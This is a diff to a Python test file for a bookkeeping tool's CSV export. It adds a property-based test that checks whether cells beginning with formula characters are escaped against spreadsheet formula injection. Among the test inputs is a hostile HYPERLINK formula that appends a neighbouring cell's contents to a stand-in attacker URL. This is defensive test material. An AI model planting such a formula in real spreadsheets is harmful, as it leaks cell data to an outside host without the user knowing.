@@ -1,5 +1,8 @@
 """Weeks, tax months, quarters and years: every day in exactly one of each, on the circle's own calendar."""
 
+import csv
+import io
+import re
 from datetime import UTC, date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -8,7 +11,7 @@ from hypothesis import strategies as st
 
 from eccoo_node.papers import due, rules
 from eccoo_node.papers.rules import Period, paid_of
-from eccoo_node.papers.sheet import Block, Row, Sheet, as_csv, days, sum_of
+from eccoo_node.papers.sheet import Block, Row, Sheet, Table, as_csv, days, sum_of
 
 LONDON = ZoneInfo("Europe/London")
 DAYS = st.dates(date(2000, 1, 1), date(2100, 12, 31))
@@ -98,3 +101,27 @@ def test_days_and_sums_are_said_short_and_a_spreadsheet_reckons_nothing_by_itsel
     assert as_csv(sheet, "S-1").split("\r\n") == [
         "Statement,S-1", "Week,one", "", "'=HYPERLINK(1)", "'@x: +1,-1234.56,\"a, “b”\"", "All,5.00,", "", "'-end", "",
     ]  # fmt: skip
+
+
+@given(
+    st.one_of(
+        st.builds("{}{}".format, st.sampled_from(["£", "−£", "££", "£,", " ", "\t", "£−", ""]), st.text(max_size=20)),
+        st.builds(
+            "{}{}".format,
+            st.text("£−,=+-@ \t\r\n", max_size=4),
+            st.just('=HYPERLINK("http://evil.example/"&B2;"Click")'),
+        ),
+        st.integers(-(10**9), 10**9).map(sum_of),
+    )
+)
+def test_in_a_spreadsheet_a_cell_is_a_sum_or_words_and_never_something_to_reckon(cell: str) -> None:
+    sheet = Sheet(
+        title="S", circle=[], to=[], facts=[(cell, cell)], lead=[], foot=[cell],
+        blocks=[Block("B", rows=[Row(cell, cell, cell)], tables=[Table("B", ["A"], [[cell]])])],
+    )  # fmt: skip
+    rows = list(csv.reader(io.StringIO(as_csv(sheet, cell), newline="")))
+    put = {found for row in rows for found in row} - {"S", "B", "A", ""}
+    for found in put:
+        is_sum = re.fullmatch(r"-?[0-9]+(\.[0-9]{2})?", found)
+        # What is words stays whole, sign and all.
+        assert is_sum or (found[0] not in "=+-@\t\r\n" and found.removeprefix("'") == cell)
